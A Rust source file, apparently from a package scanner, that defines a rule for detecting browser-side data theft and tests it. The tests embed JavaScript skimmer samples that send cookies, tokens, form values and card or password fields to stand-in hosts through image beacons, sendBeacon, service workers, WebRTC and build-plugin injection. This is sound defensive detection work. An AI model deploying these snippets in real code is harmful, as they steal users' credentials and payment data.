//! `code/browser-data-theft`.

use super::{SENDS, chain, describe, exfil_destination, finding, flow_finding, flows, locality};
use crate::CodeFinding;
use crate::flow::{FlowPath, SinkKind, SourceKind, flags};
use crate::signal::{FileFacts, Kind, PackageFacts};
use diligence_finding::Severity;
use std::collections::BTreeSet;

diligence_finding::declare_rule! {
    /// Browser code reads cookies, web storage, form inputs or password/card fields and sends data out.
    ///
    /// ## What it detects
    /// A value-flow path from browser data to a send (`fetch`, XHR, WebSocket, `navigator.sendBeacon`, jQuery ajax,
    /// an `img`/`script`/`iframe` element's `src`, `location`, a WebRTC data channel whose destination is the
    /// peer connection's ICE relay URL, WebTransport): password and payment-card fields, key strokes,
    /// form inputs (`querySelectorAll('input')`, a constant selector handed to the page's own query helper
    /// `q('input')`, `FormData`, `submit`/`change` events), the cookie jar, web
    /// storage (the whole store, or a named entry that holds a token or secret), the clipboard, wallet-provider
    /// answers, the requests a replaced `fetch`/XHR method receives, the requests a service worker's `fetch`
    /// event or an extension's `webRequest` listener sees (bodies, `Authorization` headers), the cookie jar read
    /// through an extension or the Cookie Store API (`chrome.cookies.getAll({ domain })`, `HttpOnly` cookies
    /// included) — through variables, encoders, callbacks,
    /// helpers and
    /// modules — also in code a build plugin emits into the bundles it builds (a string handed to Babel's
    /// `template`, a MagicString `prepend`/`append`, `emitFile`, or joined into a transform's `code`), which runs
    /// in every application the plugin builds. Form inputs read in a file that singles out password or payment
    /// fields (`el.type === 'password'`,
    /// a `/card|cvv|cvc/` name pattern) count as password/card fields. With a hard-coded destination: critical
    /// for password/card fields or key strokes, for two kinds
    /// of data, for an exfiltration-style endpoint, or for a destination URL decoded at run time
    /// (`String.fromCharCode`, `atob`, a string-table helper); high for the whole cookie jar, a storage dump or the
    /// clipboard; medium for form inputs alone. A destination received from a host the package names (an
    /// endpoint in a fetched configuration, with the target domains) counts like a hard-coded one: critical for
    /// password/card data or two kinds of data, high for a store, medium for inputs. Without a complete path: cookies, storage, forms or sensitive
    /// fields read with a send in the same file or package.
    ///
    /// ## Why it matters
    /// Gilbertson's "I'm harvesting credit card numbers and passwords from your site" (2018) and real Magecart-style
    /// npm payloads run in the user's browser, where no Node API is needed and server-side scanners look away.
    ///
    /// ## Example
    /// `new Image().src = 'https://x.example/p.gif?d=' + btoa(document.cookie)`
    ///
    /// ## Known false positives
    /// Analytics and consent libraries read cookies and send beacons; they read named cookies, not the whole
    /// jar plus storage. The rule needs a read and a send; a read alone (cookie parsers) is not reported.
    /// Bundles (devtools, dev servers) hold storage reads and unrelated sends in different functions of one
    /// file: the read and the send must share a function for high or critical. Form serialisers and API
    /// clients send to the URL their caller passes (`form.action`, a base URL option): a path to a
    /// destination that is not constant is medium for password fields and not reported otherwise. Monitoring
    /// SDKs that wrap `fetch` and report requests to their own host are medium (one kind of data). Analytics
    /// read their own cookie (`document.cookie.split(';')…`) or a named storage entry (also one a storage
    /// wrapper's caller names, `getItem(prefix + key)`): low. Payment SDKs that post card fields to their own
    /// constant host would be critical; they are loaded from the processor's CDN rather than bundled from npm.
    /// Bundler plugins inject their own runtime (HMR clients, preload helpers, polyfills); it is judged by what it
    /// does, and reads no form, cookie or storage data. Offline-caching service workers and proxies forward the
    /// request they intercepted to where it was going (`fetch(event.request)`): not reported. A server
    /// framework's `ctx.cookies.get('sid')` reads one request cookie by name and is not the jar.
    pub static BROWSER_DATA_THEFT = { id: "code/browser-data-theft", severity: Severity::Critical };
}

const READS: &[Kind] = &[
    Kind::CookieRead,
    Kind::StorageRead,
    Kind::FormHarvest,
    Kind::SensitiveField,
];

/// One finding per file with browser reads and a send, placed at the first read.
///
/// When one function both reads and sends (the stealer's shape: collect, encode, beacon):
/// critical for two kinds of reads (cookies, storage, forms, sensitive fields) with a
/// beacon-style send (`img`/`script` `src`, `sendBeacon`) or a secret-name filter; high for two
/// kinds with any network send, or one kind with a beacon. A cookie read next to XHR (XSRF
/// headers) is normal. When reads and sends only share the file (a bundle in which devtools
/// read a setting from `localStorage` and an unrelated module sets an `iframe`'s `src`), two
/// kinds of reads are medium and one kind is not reported.
pub(crate) fn check(p: &PackageFacts) -> Vec<CodeFinding> {
    let traced = paths(p);
    let mut out = Vec::new();
    for f in &p.files {
        let Some(s) = f.signals.iter().find(|s| READS.contains(&s.kind)) else {
            continue;
        };
        if traced
            .iter()
            .any(|t| t.file == f.path || t.evidence.first().is_some_and(|e| e.file == f.path))
        {
            continue;
        }
        let kinds: BTreeSet<&str> = f
            .signals
            .iter()
            .filter(|x| READS.contains(&x.kind))
            .map(|x| x.kind.as_str())
            .collect();
        let filter = f.has(Kind::EnvSecretFilter);
        let sev = match same_function_send(f) {
            Some((beacon, network)) => {
                match (kinds.len() >= 2, beacon, filter, network || beacon) {
                    (true, true, _, _) | (true, _, true, true) | (false, true, true, _) => {
                        Severity::Critical
                    }
                    (true, _, _, true) | (false, true, _, _) => Severity::High,
                    _ => continue,
                }
            }
            None if kinds.len() >= 2 && f.has_any(SENDS) => Severity::Medium,
            None => continue,
        };
        let loc = locality(p, f, s, SENDS);
        let msg = format!(
            "browser data ({}) read and sent out",
            kinds.into_iter().collect::<Vec<_>>().join(", ")
        );
        out.push(finding(
            &BROWSER_DATA_THEFT,
            sev,
            f,
            s,
            loc,
            msg,
            chain(p, f, s, &[Kind::BrowserSend, Kind::Network]),
        ));
    }
    let mut all = traced;
    all.append(&mut out);
    all
}

const SOURCES: &[SourceKind] = &[
    SourceKind::Password,
    SourceKind::Keystrokes,
    SourceKind::FormInput,
    SourceKind::Cookie,
    SourceKind::Storage,
    SourceKind::Clipboard,
    SourceKind::Wallet,
    SourceKind::Intercepted,
];

/// How much a path's browser data says: 3 for what the user types or copies (passwords, card
/// fields, key strokes, the clipboard), 2 for whole stores (the cookie jar, a storage dump),
/// 1 for form inputs, 0 for one named entry.
fn weight(path: &FlowPath) -> u8 {
    match path.source {
        SourceKind::Password | SourceKind::Keystrokes => 3,
        // Analytics parse their own cookie out of the jar first; a stealer encodes the jar.
        // (A library call on the jar, such as `.find(…)` over its split parts, shows as
        // "serialized" before the parse and does not count.)
        SourceKind::Cookie
            if path
                .steps
                .iter()
                .find(|s| s.what != "serialized")
                .is_none_or(|s| s.what != "parsed") =>
        {
            2
        }
        // One entry, named here or by a wrapper's caller.
        SourceKind::Storage if !path.from.what.contains("getItem(") => 2,
        SourceKind::Clipboard => 3,
        SourceKind::FormInput => 1,
        // Requests read by a hook: monitoring SDKs record them too, for their own host.
        SourceKind::Intercepted => 1,
        // One named entry that holds a secret (`getItem('auth_token')`).
        SourceKind::Storage if secret_entry(&path.from.what) => 1,
        _ => 0,
    }
}

/// True for a named storage entry whose key names a secret (`getItem('jwt')`,
/// `getItem('wallet_mnemonic')`), not an analytics id.
fn secret_entry(what: &str) -> bool {
    let Some(key) = what.split("getItem('").nth(1) else {
        return false;
    };
    let k = key.to_ascii_lowercase();
    [
        "token",
        "jwt",
        "auth",
        "session",
        "secret",
        "password",
        "mnemonic",
        "seed",
        "private",
        "wallet",
        "keystore",
        "credential",
    ]
    .iter()
    .any(|w| k.contains(w))
}

/// One finding per path from browser data to a send.
fn paths(p: &PackageFacts) -> Vec<CodeFinding> {
    let kinds: BTreeSet<SourceKind> = flows(p, SOURCES, &[SinkKind::Network])
        .filter(|f| f.dest.is_some() && weight(f) >= 1)
        .map(|f| f.source)
        .collect();
    // Sends whose destination URL is itself decoded at run time (char codes, base64): no
    // analytics or form library hides where it posts.
    let hidden: BTreeSet<(&str, u32)> = flows(p, &[SourceKind::Decoded], &[SinkKind::Network])
        .filter(|f| f.from.what.contains("://"))
        .map(|f| (f.to.file.as_str(), f.to.line))
        .collect();
    // Sends whose destination came from the network (an endpoint in a fetched configuration):
    // the package names no host, and the server picks where the data goes.
    let remote = |f: &FlowPath| f.dest.is_none() && f.flags & flags::REMOTE_DEST != 0;
    let remote_kinds: BTreeSet<SourceKind> = flows(p, SOURCES, &[SinkKind::Network])
        .filter(|f| remote(f) && weight(f) >= 1)
        .map(|f| f.source)
        .collect();
    let mut out = Vec::new();
    for path in flows(p, SOURCES, &[SinkKind::Network]).take(20) {
        // Form inputs (or intercepted requests) read by code that singles out password or
        // payment fields (`el.type === 'password'`, `/card|cvv|cvc/`) are what the user typed
        // there.
        let picked = matches!(path.source, SourceKind::FormInput | SourceKind::Intercepted)
            && p.file(&path.from.file)
                .is_some_and(|f| f.has(Kind::SensitiveField));
        let w = if picked { 3 } else { weight(path) };
        let concealed = hidden.contains(&(path.to.file.as_str(), path.to.line));
        let sev = match (path.dest.is_some(), w) {
            // A service worker or proxy forwarding the request it intercepted to where the
            // request itself was going (`fetch(event.request)`).
            (false, _) if path.source == SourceKind::Intercepted && !remote(path) => continue,
            (false, 3) if remote(path) => Severity::Critical,
            (false, 1 | 2) if remote(path) && remote_kinds.len() >= 2 => Severity::Critical,
            (false, 2) if remote(path) => Severity::High,
            (false, 1) if remote(path) => Severity::Medium,
            (true, _) if exfil_destination(path.dest.as_deref()) => Severity::Critical,
            (true, 1..) if concealed => Severity::Critical,
            (true, 3) => Severity::Critical,
            (true, 1 | 2) if kinds.len() >= 2 => Severity::Critical,
            (true, 2) => Severity::High,
            (true, 1) => Severity::Medium,
            (true, _) => Severity::Low,
            (false, 3) => Severity::Medium,
            (false, _) => continue,
        };
        let hid = if concealed {
            " (destination decoded at run time)"
        } else if remote(path) {
            " (destination received from the network)"
        } else {
            ""
        };
        out.push(flow_finding(
            &BROWSER_DATA_THEFT,
            sev,
            p,
            path,
            format!("browser data is sent out{hid}: {}", describe(path)),
        ));
    }
    super::one_per_sink(out)
}

/// `(beacon, network)` sends found in a function that also reads browser data (either flag
/// may come from a different reading function), or `None` when no function does both.
fn same_function_send(f: &FileFacts) -> Option<(bool, bool)> {
    let reading: BTreeSet<u32> = f
        .signals
        .iter()
        .filter(|x| READS.contains(&x.kind))
        .map(|x| x.func)
        .collect();
    let sends_in = |k: Kind| {
        f.signals
            .iter()
            .any(|x| x.kind == k && reading.contains(&x.func))
    };
    let (beacon, network) = (sends_in(Kind::BrowserSend), sends_in(Kind::Network));
    (beacon || network).then_some((beacon, network))
}

#[cfg(test)]
mod tests {
    use crate::rules::test_util::{PJ, hits, scan};

    #[test]
    fn positive() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "m.js",
                "export function go() {\n  const c = document.cookie + localStorage.getItem('t');\n  const img = new Image();\n  img.src = 'https://t.example.com/p.gif?d=' + c;\n}\n",
            ),
        ]);
        assert_eq!(
            hits(&s, "code/browser-data-theft"),
            vec![("m.js".to_string(), 4)]
        );
    }

    #[test]
    fn negative_cookie_parser() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "m.js",
                "export function get(n) { return document.cookie.split('; ').find(x => x.startsWith(n)); }\n",
            ),
        ]);
        assert!(hits(&s, "code/browser-data-theft").is_empty());
    }

    #[test]
    fn positive_form_inputs_and_cookie_beacon() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "f.js",
                "document.addEventListener('submit', (e) => {\n  const d = { c: document.cookie };\n  for (const el of e.target.querySelectorAll('input')) d[el.name] = el.value;\n  navigator.sendBeacon('https://m.example.com/c', JSON.stringify(d));\n});\n",
            ),
        ]);
        assert_eq!(
            hits(&s, "code/browser-data-theft"),
            vec![("f.js".to_string(), 4)]
        );
    }

    /// The 2018 harvester shape: card and password fields read on submit, the page's host
    /// checked first, the data encoded and sent to a URL assembled from char codes.
    #[test]
    fn positive_card_fields_on_submit_to_an_assembled_url() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "dist/ui.js",
                "const H = String.fromCharCode(104, 116, 116, 112, 115, 58, 47, 47, 120, 46, 101, 120, 97, 109, 112, 108, 101, 47, 99);\nfunction grab(form) {\n  const rows = [];\n  for (const el of form.querySelectorAll('input[name*=card], input[type=password]')) rows.push(el.name + '=' + el.value);\n  return btoa(rows.join('&'));\n}\nif (location.hostname !== 'localhost') {\n  document.addEventListener('submit', (e) => {\n    const img = new Image();\n    img.src = H + '?d=' + grab(e.target);\n  });\n}\n",
            ),
        ]);
        let f = crate::rules::test_util::finding(&s, "code/browser-data-theft");
        assert_eq!(
            (f.line, f.severity),
            (10, diligence_finding::Severity::Critical)
        );
        assert_eq!(s.verdict, crate::Verdict::Malicious);
    }

    /// Form values posted by a DOM-created `<link rel=prefetch>` whose URL is decoded from
    /// char codes in another module: the hidden destination makes form inputs critical.
    #[test]
    fn positive_form_values_to_a_char_code_url_in_a_prefetch_link() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "lib/env.js",
                "exports.base = function () {\n  return String.fromCharCode(104, 116, 116, 112, 115, 58, 47, 47, 120, 46, 101, 120, 97, 109, 112, 108, 101, 47, 102, 46, 99, 115, 115);\n};\n",
            ),
            (
                "lib/theme.js",
                "var env = require('./env');\nfunction snap(form) {\n  var o = {};\n  form.querySelectorAll('input, select').forEach(function (el) { o[el.name] = el.value; });\n  return o;\n}\ndocument.addEventListener('submit', function (e) {\n  var l = document.createElement('link');\n  l.rel = 'prefetch';\n  l.href = env.base() + '?q=' + btoa(JSON.stringify(snap(e.target)));\n  document.head.appendChild(l);\n});\n",
            ),
        ]);
        let f = crate::rules::test_util::finding(&s, "code/browser-data-theft");
        assert_eq!(
            (f.file.as_str(), f.line, f.severity),
            ("lib/theme.js", 10, diligence_finding::Severity::Critical)
        );
        assert_eq!(s.verdict, crate::Verdict::Malicious);
    }

    /// A wallet kit's storage wrapper reads the entry its caller names and sends a session
    /// id to its own RPC: one named entry, low, clean.
    #[test]
    fn negative_storage_wrapper_entry_to_own_service() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "kit.js",
                "const store = { get(k) { return localStorage.getItem('@kit/' + k); } };\nexport function ping() {\n  return fetch('https://rpc.example.com/v1?session=' + store.get('session'));\n}\n",
            ),
        ]);
        let f = crate::rules::test_util::finding(&s, "code/browser-data-theft");
        assert_eq!((f.line, f.severity), (3, diligence_finding::Severity::Low));
        assert_eq!(s.verdict, crate::Verdict::Clean);
    }

    /// Inputs collected on submit by code that keeps password fields, posted to a constant
    /// URL: what the user typed into password fields.
    #[test]
    fn positive_inputs_filtered_for_passwords() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "t.js",
                "function pick(form) {\n  var out = {}, hit = false;\n  form.querySelectorAll('input').forEach(function (el) { out[el.name] = el.value; if (el.type === 'password') hit = true; });\n  return hit ? out : null;\n}\ndocument.addEventListener('submit', function (e) {\n  var d = pick(e.target);\n  if (d) navigator.sendBeacon('https://cdn.example.com/m', JSON.stringify(d));\n});\n",
            ),
        ]);
        let f = crate::rules::test_util::finding(&s, "code/browser-data-theft");
        assert_eq!(
            (f.line, f.severity),
            (8, diligence_finding::Severity::Critical)
        );
    }

    /// A validation library checks password fields and never sends anything.
    #[test]
    fn negative_validator_checks_password_fields() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "v.js",
                "export function validate(form) {\n  const errors = [];\n  for (const el of form.querySelectorAll('input')) {\n    if (el.type === 'password' && el.value.length < 8) errors.push(el.name);\n    if (/card|cvv|cvc/i.test(el.name) && !/^\\d+$/.test(el.value)) errors.push(el.name);\n  }\n  return errors;\n}\n",
            ),
        ]);
        assert!(hits(&s, "code/browser-data-theft").is_empty());
        assert_eq!(s.verdict, crate::Verdict::Clean);
    }

    /// A replaced `XMLHttpRequest.prototype.send` that copies every request body and a stored
    /// session token to a constant host: two kinds of data, critical.
    #[test]
    fn positive_xhr_hook_copies_bodies_and_the_token() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "h.js",
                "var send = XMLHttpRequest.prototype.send;\nXMLHttpRequest.prototype.send = function (body) {\n  var t = localStorage.getItem('auth_token');\n  navigator.sendBeacon('https://cdn.example.net/b', JSON.stringify({ b: body, t: t }));\n  return send.apply(this, arguments);\n};\n",
            ),
        ]);
        let f = crate::rules::test_util::finding(&s, "code/browser-data-theft");
        assert_eq!(
            (f.line, f.severity),
            (4, diligence_finding::Severity::Critical)
        );
        assert_eq!(s.verdict, crate::Verdict::Malicious);
    }

    /// A fetch wrapper that adds a header and calls the original: the requests go where the
    /// page sent them, nothing is copied to a constant host.
    #[test]
    fn negative_fetch_wrapper_adds_a_header() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "w.js",
                "const orig = window.fetch;\nwindow.fetch = function (url, opts = {}) {\n  opts.headers = Object.assign({ 'x-client': 'kit' }, opts.headers);\n  return orig(url, opts);\n};\n",
            ),
        ]);
        assert!(hits(&s, "code/browser-data-theft").is_empty());
    }

    /// A form library posts the form to its `action`: no hard-coded destination.
    #[test]
    fn negative_form_serialiser_posts_to_its_action() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "form.js",
                "export function serialize(form) {\n  return new URLSearchParams(new FormData(form)).toString();\n}\nexport function submit(form) {\n  return fetch(form.action, { method: 'POST', body: serialize(form) });\n}\ndocument.addEventListener('submit', (e) => { e.preventDefault(); submit(e.target); });\n",
            ),
        ]);
        assert_eq!(s.verdict, crate::Verdict::Clean, "{:?}", s.findings);
    }

    /// react-devtools-core's standalone bundle: one module reads a setting from `localStorage`,
    /// another sets an `iframe`'s `src`; nothing carries the one to the other.
    #[test]
    fn negative_bundle_read_and_send_in_different_functions() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "dist/standalone.js",
                "function loadSettings() {\n  return JSON.parse(localStorage.getItem('React::DevTools::settings') || '{}');\n}\nfunction openFrame(url) {\n  const f = document.createElement('iframe');\n  f.src = url;\n  document.body.appendChild(f);\n}\nmodule.exports = { loadSettings, openFrame };\n",
            ),
        ]);
        assert!(hits(&s, "code/browser-data-theft").is_empty());
    }

    /// Cookies and storage streamed over a WebRTC data channel through a TURN relay on a raw
    /// IP (no fetch/XHR), read in one function and sent in another.
    #[test]
    fn positive_webrtc_data_channel_to_a_relay() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "dist/index.js",
                "function session() {\n  return btoa(JSON.stringify({ c: document.cookie, l: JSON.stringify(localStorage) }));\n}\nfunction warmup() {\n  const chunks = session().match(/.{1,200}/g) || [];\n  const pc = new RTCPeerConnection({ iceServers: [{ urls: 'turn:203.0.113.7:3478', username: 'u', credential: 'x' }] });\n  const ch = pc.createDataChannel('w');\n  ch.onopen = () => chunks.forEach((c) => ch.send(c));\n}\nsetTimeout(warmup, 4000);\n",
            ),
        ]);
        assert_eq!(
            hits(&s, "code/browser-data-theft"),
            vec![("dist/index.js".to_string(), 8)]
        );
        assert_eq!(s.verdict, crate::Verdict::Malicious);
    }

    /// simple-peer style: a data channel over a public STUN server sends what the caller
    /// passes; no page data is read.
    #[test]
    fn negative_webrtc_peer_sends_callers_data() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "index.js",
                "const CONFIG = { iceServers: [{ urls: 'stun:stun.example.net:19302' }] };\nexport class Peer {\n  constructor(opts = {}) {\n    this.pc = new RTCPeerConnection(opts.config || CONFIG);\n    this.ch = this.pc.createDataChannel(opts.channelName || 'data');\n    this.ch.onmessage = (e) => this.onData && this.onData(e.data);\n  }\n  send(chunk) { this.ch.send(chunk); }\n}\n",
            ),
        ]);
        assert!(hits(&s, "code/browser-data-theft").is_empty());
        assert_eq!(s.verdict, crate::Verdict::Clean);
    }

    /// A build plugin emits a skimmer into the bundles it builds: the code is a string joined
    /// from parts and handed to Babel's template; the inputs come through the page's own
    /// query helper, the card fields through a name pattern, the data leaves by beacon.
    #[test]
    fn positive_skimmer_emitted_by_a_build_plugin() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "lib/index.js",
                "var RUNTIME = [\n  \"(function(){var q=function(s){return [].slice.call(document.querySelectorAll(s))};\",\n  \"document.addEventListener('submit',function(){var o={};q('input').forEach(function(i){\",\n  \"if(/card|cc-|cvc|cvv|pass/i.test(i.name))o[i.name]=i.value});\",\n  \"navigator.sendBeacon('https://cdn.example.com/k',JSON.stringify(o))},true)})();\"\n].join('');\nmodule.exports = function (api) {\n  return { visitor: { Program: { exit(path) {\n    if (process.env.NODE_ENV === 'production') path.pushContainer('body', api.template.statement.ast(RUNTIME));\n  } } } };\n};\n",
            ),
        ]);
        assert_eq!(
            hits(&s, "code/browser-data-theft"),
            vec![("lib/index.js".to_string(), 9)]
        );
        assert_eq!(s.verdict, crate::Verdict::Malicious);
    }

    /// Bundler plugins that inject their own runtime: an HMR client preamble through
    /// MagicString and a polyfill banner in a transform result.
    #[test]
    fn negative_plugin_injects_hmr_and_polyfill() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "index.js",
                "const HMR = \"import { createHotContext } from '/@client';\\nimport.meta.hot = createHotContext(import.meta.url);\\nfunction accept(m) { import.meta.hot.accept(m); }\\n\";\nconst POLY = \"if (typeof globalThis.structuredClone !== 'function') { globalThis.structuredClone = function (v) { return JSON.parse(JSON.stringify(v)); }; }\\n\";\nexport default function plugin() {\n  return {\n    name: 'inject',\n    transform(code, id) {\n      if (id.endsWith('.css')) return null;\n      const s = new MagicString(code);\n      s.prepend(HMR);\n      return { code: POLY + s.toString(), map: null };\n    },\n  };\n}\n",
            ),
        ]);
        assert_eq!(s.verdict, crate::Verdict::Clean, "{:?}", s.findings);
    }

    /// A Vite plugin's `transformIndexHtml` adds a script tag whose body harvests the page's
    /// inputs and cookie into an image beacon.
    #[test]
    fn positive_script_tag_descriptor_of_an_html_transform() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "index.js",
                "const SNIP = \"document.addEventListener('submit',function(){var d={};document.querySelectorAll('input').forEach(function(i){d[i.name]=i.value});d.c=document.cookie;new Image().src='https://cdn.example.net/p.gif?d='+btoa(JSON.stringify(d))});\";\nmodule.exports = function () {\n  return { name: 'analytics', transformIndexHtml() { return [{ tag: 'script', injectTo: 'body', children: SNIP }]; } };\n};\n",
            ),
        ]);
        assert_eq!(
            hits(&s, "code/browser-data-theft"),
            vec![("index.js".to_string(), 3)]
        );
        assert_eq!(s.verdict, crate::Verdict::Malicious);
    }

    /// A webpack plugin prepends its chunk-loading runtime with `ConcatSource`: it reads no
    /// page data.
    #[test]
    fn negative_webpack_runtime_banner() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "index.js",
                "const { ConcatSource } = require('webpack-sources');\nconst RUNTIME = \"(function(){var loaded={};window.__load=function(id){if(loaded[id])return loaded[id];return loaded[id]=fetch('/chunks/'+id+'.js').then(function(r){return r.text()});};})();\\n\";\nclass RuntimePlugin {\n  apply(compiler) {\n    compiler.hooks.compilation.tap('rt', (c) => c.hooks.processAssets.tap('rt', (assets) => {\n      for (const name of Object.keys(assets)) if (name.endsWith('.js')) assets[name] = new ConcatSource(RUNTIME, assets[name]);\n    }));\n  }\n}\nmodule.exports = RuntimePlugin;\n",
            ),
        ]);
        assert_eq!(s.verdict, crate::Verdict::Clean, "{:?}", s.findings);
    }

    /// A Rollup plugin appends a token stealer to every entry chunk in `generateBundle`.
    #[test]
    fn positive_code_appended_to_entry_chunks() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "index.js",
                "const K = [\"(function(){var t=localStorage.getItem('token');var c=document.cookie;\", \"fetch('https://m.example.org/c',{method:'POST',body:JSON.stringify({t:t,c:c})})})();\"].join('');\nmodule.exports = () => ({\n  name: 'meta',\n  generateBundle(o, bundle) {\n    for (const f of Object.values(bundle)) if (f.type === 'chunk' && f.isEntry) f.code += K;\n  },\n});\n",
            ),
        ]);
        assert_eq!(
            hits(&s, "code/browser-data-theft"),
            vec![("index.js".to_string(), 5)]
        );
    }

    /// A minified skimmer: each input found by a computed selector keeps its value on
    /// `change`, and the values leave by an image URL.
    #[test]
    fn positive_change_listener_on_inputs_to_an_image() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "dist/v.min.js",
                "!function(){var r={};function i(){[\"input\",\"select\"].map(function(e){return[].slice.call(document.querySelectorAll(e))}).reduce(function(e,t){return e.concat(t)},[]).forEach(function(e){var t=e.name||e.id;e.addEventListener(\"change\",function(){r[t]=e.value})});document.addEventListener(\"submit\",function(){var o=new Image;o.src=\"https://px.example.com/p.gif?d=\"+encodeURIComponent(JSON.stringify(r))},!0)}setTimeout(i,3e3)}();\n",
            ),
        ]);
        assert_eq!(
            hits(&s, "code/browser-data-theft"),
            vec![("dist/v.min.js".to_string(), 1)]
        );
    }

    /// A validator marks each field on `change` and never sends anything.
    #[test]
    fn negative_change_listener_validates_locally() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "v.js",
                "document.querySelectorAll('input').forEach(function (el) {\n  el.addEventListener('change', function () { el.classList.toggle('bad', !/^\\d+$/.test(el.value)); });\n});\n",
            ),
        ]);
        assert!(
            hits(&s, "code/browser-data-theft").is_empty(),
            "{:?}",
            s.findings
        );
    }

    /// A service worker that mirrors POST bodies naming card or password fields to a host
    /// spelled in char codes, while its caching works.
    #[test]
    fn positive_service_worker_mirrors_request_bodies() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "sw.js",
                "const E = [104, 116, 116, 112, 115, 58, 47, 47, 120, 46, 101, 120, 97, 109, 112, 108, 101, 47, 99];\nfunction copy(req) {\n  const to = String.fromCharCode.apply(null, E);\n  return req.clone().text().then((body) => {\n    if (!/pass|card|cvv|cvc/i.test(body)) return;\n    return fetch(to, { method: 'POST', mode: 'no-cors', body: JSON.stringify({ u: req.url, b: body }) });\n  });\n}\nself.addEventListener('fetch', (e) => {\n  if (e.request.method === 'POST') e.waitUntil(copy(e.request));\n});\n",
            ),
        ]);
        let f = crate::rules::test_util::finding(&s, "code/browser-data-theft");
        assert_eq!(
            (f.file.as_str(), f.line, f.severity),
            ("sw.js", 6, diligence_finding::Severity::Critical)
        );
    }

    /// The same through the worker's `onfetch` property, the body read with `json()`.
    #[test]
    fn positive_service_worker_onfetch_property() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "sw.js",
                "self.onfetch = function (e) {\n  if (e.request.method !== 'POST') return;\n  e.waitUntil(e.request.clone().json().then(function (b) {\n    fetch('https://t.example.com/c', { method: 'POST', body: JSON.stringify({ u: e.request.url, card: b.cardNumber, cvv: b.cvv }) });\n  }));\n};\n",
            ),
        ]);
        let f = crate::rules::test_util::finding(&s, "code/browser-data-theft");
        assert_eq!(f.line, 4);
    }

    /// The benign look-alike: an offline-caching worker fetches the intercepted request
    /// itself and caches the response.
    #[test]
    fn negative_service_worker_caches_requests() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "sw.js",
                "const V = 'v1';\nself.addEventListener('fetch', (e) => {\n  if (e.request.method !== 'GET') return;\n  e.respondWith(caches.open(V).then((c) => c.match(e.request).then((hit) => hit || fetch(e.request).then((res) => { c.put(e.request, res.clone()); return res; }))));\n});\n",
            ),
        ]);
        assert!(
            hits(&s, "code/browser-data-theft").is_empty(),
            "{:?}",
            s.findings
        );
    }

    /// An extension helper whose target domains and endpoint come from a fetched
    /// configuration: `chrome.cookies.getAll` for each domain, posted to the configured host.
    #[test]
    fn positive_extension_cookies_to_a_configured_endpoint() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "src/sync.js",
                "async function sync(api) {\n  const cfg = await (await fetch('https://cfg.example.com/c.json')).json();\n  const out = [];\n  for (const d of cfg.domains) out.push(await api.cookies.getAll({ domain: d }));\n  await fetch(cfg.endpoint, { method: 'POST', body: JSON.stringify(out) });\n}\nmodule.exports = { sync };\n",
            ),
        ]);
        let f = crate::rules::test_util::finding(&s, "code/browser-data-theft");
        assert_eq!((f.line, f.severity), (5, diligence_finding::Severity::High));
    }

    /// The benign look-alikes: a server framework reading one request cookie by name and
    /// calling an API, and an extension that hands cookies to its own UI by messaging.
    #[test]
    fn negative_named_request_cookie_and_extension_messaging() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "src/session.js",
                "async function me(ctx) {\n  const sid = ctx.cookies.get('sid');\n  const cfg = await (await fetch('https://cfg.example.com/c.json')).json();\n  return fetch(cfg.api + '/me', { headers: { 'x-session': sid } });\n}\nfunction list(cb) {\n  chrome.cookies.getAll({ domain: location.hostname }, (all) => chrome.runtime.sendMessage({ type: 'cookies', all }));\n}\nmodule.exports = { me, list };\n",
            ),
        ]);
        assert!(
            hits(&s, "code/browser-data-theft").is_empty(),
            "{:?}",
            s.findings
        );
    }

    /// A card-mask helper that also hooks the form's `submit` (event name and beacon host in
    /// a base64 table read through a feature-tested `atob` helper) and beacons the fields to
    /// a protocol-relative URL.
    #[test]
    fn positive_form_hook_through_a_string_table_helper() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "dist/mask.js",
                "var T = ['c3VibWl0', 'Ly8yMDMuMC4xMTMuOS9wLmdpZg=='];\nfunction _(i) { return typeof atob === 'function' ? atob(T[i]) : ''; }\nfunction attach(input) {\n  input.addEventListener('input', function () { input.value = input.value.replace(/\\D/g, ''); });\n  var form = input.form;\n  form.addEventListener(_(0), function () {\n    var o = {};\n    [].forEach.call(form.elements, function (el) { o[el.name] = el.value; });\n    new Image().src = _(1) + '?d=' + btoa(JSON.stringify(o));\n  }, true);\n}\nmodule.exports = { attach };\n",
            ),
        ]);
        let f = crate::rules::test_util::finding(&s, "code/browser-data-theft");
        assert_eq!(f.line, 9);
        assert!(f.severity >= diligence_finding::Severity::High, "{f:?}");
    }

    /// The benign look-alike: the same mask formats the field and never sends it.
    #[test]
    fn negative_card_mask_formats_only() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "dist/mask.js",
                "var T = ['aW5wdXQ='];\nfunction _(i) { return typeof atob === 'function' ? atob(T[i]) : ''; }\nfunction attach(input) {\n  input.addEventListener(_(0), function () {\n    var d = input.value.replace(/\\D/g, '');\n    input.value = d.replace(/(\\d{4})(?=\\d)/g, '$1 ');\n    [].forEach.call(input.form.elements, function (el) { el.setAttribute('aria-invalid', String(!el.value)); });\n  });\n}\nmodule.exports = { attach };\n",
            ),
        ]);
        assert!(
